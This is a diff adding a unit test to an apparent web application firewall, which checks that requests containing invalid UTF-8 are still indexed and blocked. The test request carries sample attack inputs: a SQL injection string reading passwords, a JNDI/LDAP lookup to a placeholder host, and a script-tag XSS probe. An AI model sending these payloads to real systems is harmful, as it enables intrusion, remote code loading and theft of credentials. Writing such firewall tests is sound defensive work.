@@ -79,3 +79,23 @@ def test_rules_are_grouped_by_input() -> None:
     assert index.indexed == frozenset({0, 1, 2})
     assert index.candidates(fields("xAAB", "", "curl/8", "")) == {0, 2}
     assert index.candidates(fields("zz", "", "", "")) == {1}
+
+
+def test_invalid_utf8_is_searched_as_bytes() -> None:
+    # Invalid UTF-8 reaches the index as lone surrogates; it must search the original bytes rather than fail (a
+    # failing index would make every request with one stray byte evaluate every rule).
+    request = RequestFields.from_http(
+        method="POST",
+        scheme="http",
+        host="rpc.example.com",
+        raw_path="/v1/mainnet",
+        query="q=%ff\udcff union select password from users--",
+        headers=[(b"user-agent", b"\xff\xfe ${jndi:ldap://x/a}")],
+        body=b'{"params":["\xc3\x28 <script>alert(1)</script>"]}',
+        client_ip="192.0.2.1",
+    )
+    index = FIREWALL._index
+    candidates = index.candidates(request)
+    assert candidates
+    assert FIREWALL.evaluate(request) == without_index(FIREWALL).evaluate(request)
+    assert FIREWALL.evaluate(request).blocked
